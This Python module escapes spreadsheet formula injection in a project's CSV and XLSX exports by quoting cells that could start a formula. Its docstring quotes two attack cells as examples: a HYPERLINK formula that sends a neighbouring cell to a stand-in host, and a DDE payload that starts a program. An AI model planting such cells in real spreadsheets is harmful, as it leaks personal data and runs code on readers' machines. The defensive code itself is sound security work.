"""Every CSV and XLSX cell Pulih writes, made unable to run as a formula.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and a
leading tab or carriage return can hide such a start (OWASP "CSV injection"): a client named
``=HYPERLINK("http://x/?"&C6,"Klik")`` would otherwise send the row next to it to a stranger
when the BNBA list is opened, and ``=cmd|' /C calc'!A0`` (DDE) could start a program.

- CSV holds only text, so a dangerous text gets a single quote in front (OWASP's advice); the
  spreadsheet shows the quote and keeps the rest as typed.
- XLSX cells keep their value as typed but are stored as a string (openpyxl would otherwise
  store any text starting with ``=`` as a formula) and marked with Excel's *quote prefix*
  style, so editing the cell later does not turn it into a formula either.

Real numbers (int, float, and number text such as ``-12`` or ``-1,5``) stay numbers. Every
export goes through :func:`csv_bytes` and :func:`put`; tests/test_export_injection.py checks
that no other code in reports/ or ui/ writes a csv row or a worksheet cell.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable
from typing import Any

BOM = "\ufeff"
# what a spreadsheet may read as the start of a formula; full-width forms too, since some
# spreadsheets fold them to ASCII
TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_NUMBER = re.compile(r"-?\d+([.,]\d+)?")


def dangerous(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula (a plain number is safe)."""
    return bool(text) and text[0] in TRIGGERS and not _NUMBER.fullmatch(text)


def csv_text(value: Any) -> str:
    """One CSV field: None as empty, dates as YYYY-MM-DD, numbers as they are, and a text
    that could start a formula behind a single quote."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, (int, float)):
        return str(value)
    if isinstance(value, (dt.date, dt.datetime)):
        return value.isoformat()
    text = str(value)
    return "'" + text if dangerous(text) else text


def csv_bytes(rows: Iterable[Iterable[Any]], delimiter: str = ",") -> bytes:
    """UTF-8 CSV with a byte-order mark (so Excel reads UTF-8), CRLF line ends, every field
    passed through :func:`csv_text`."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerows([csv_text(value) for value in row] for row in rows)
    return (BOM + buffer.getvalue()).encode("utf-8")


def put(ws: Any, row: int, column: int, value: Any = None) -> Any:
    """Write ``value`` into an openpyxl worksheet cell and return the cell; a text is always
    stored as a string, never as a formula."""
    cell = ws.cell(row=row, column=column)
    if value is None:
        return cell
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl makes any "=..." a formula ("f") otherwise
        if dangerous(value):
            cell.quotePrefix = True
    return cell
